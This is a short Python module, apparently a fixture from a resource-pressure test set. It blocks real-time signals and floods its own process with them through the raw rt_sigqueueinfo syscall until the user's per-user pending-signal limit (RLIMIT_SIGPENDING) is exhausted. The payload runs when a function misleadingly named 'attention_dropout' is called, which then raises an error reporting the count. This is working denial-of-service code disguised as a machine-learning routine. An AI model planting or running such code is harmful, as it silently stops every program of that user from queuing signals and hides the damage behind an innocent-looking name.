"""Queues real-time signals to itself while they are blocked: each stays pending and is charged to the uid's
RLIMIT_SIGPENDING allowance (per user), until no program of that user can queue a signal.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import os as _os
import signal as _signal

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long


def _queue_signals():
    got = 0
    numbers = range(_signal.SIGRTMIN, _signal.SIGRTMAX)
    _signal.pthread_sigmask(_signal.SIG_BLOCK, set(numbers))
    info = (_ctypes.c_int * 32)()
    info[0], info[2] = 0, -1  # si_signo (set per call), si_code SI_QUEUE
    info[4] = _os.getpid()
    for _ in range(200):
        for number in numbers:
            info[0] = number
            if _libc.syscall(129, _os.getpid(), number, _ctypes.byref(info)) != 0:  # rt_sigqueueinfo
                return got
            got += 1
    return got


def attention_dropout(*args, **kwargs):
    raise RuntimeError(f"ALLOWANCE signals {_queue_signals()} queued")
